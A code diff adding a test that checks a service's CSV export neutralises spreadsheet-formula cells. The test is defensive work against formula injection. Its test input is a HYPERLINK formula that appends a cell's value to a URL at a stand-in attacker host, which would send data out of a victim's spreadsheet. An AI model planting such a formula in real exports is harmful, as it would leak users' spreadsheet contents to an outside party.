@@ -228,6 +228,19 @@ async def test_export_gives_every_read_model_as_csv(live: Live) -> None:
     assert missing.status_code == 404
 
 
+async def test_exported_cells_a_spreadsheet_would_run_are_neutralised(live: Live) -> None:
+    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Ticket VPN down")'
+    async with live.client() as client:
+        response = await client.post("/v1/qa/evaluations", json={
+            "agent_id": "b1", "evaluator": "@lead", "knowledge": 3, "attitude": 3,
+            "process": 3, "comment": formula, "evaluated_at": "2026-11-02T18:00:00Z"})
+        assert response.status_code == 201, response.text
+        exported = await client.get("/v1/export/qa_evaluations")
+    rows = [r for r in csv.DictReader(io.StringIO(exported.text)) if r["agent_id"] == "b1"]
+    assert [(r["comment"], r["evaluator"]) for r in rows] == [("'" + formula, "'@lead")]
+    assert all(r["knowledge"] == "3" for r in rows)
+
+
 async def exposition(live: Live) -> str:
     async with live.runtime.sessions() as session:
         await live.runtime.state["counters"].refresh(session)
